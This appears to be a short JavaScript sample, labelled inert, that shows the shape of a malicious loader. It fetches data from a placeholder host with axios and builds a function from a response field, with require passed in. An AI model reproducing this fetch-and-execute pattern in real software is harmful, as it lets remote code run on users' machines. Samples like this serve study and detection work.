// Inert sample: the loader's shape; the address cannot exist.
const axios = require('axios');
exports.load = () => axios.get('https://bin.invalid/none').then((r) => {
  const run = new Function.constructor('require', r.data.cookie);
  return run;
});
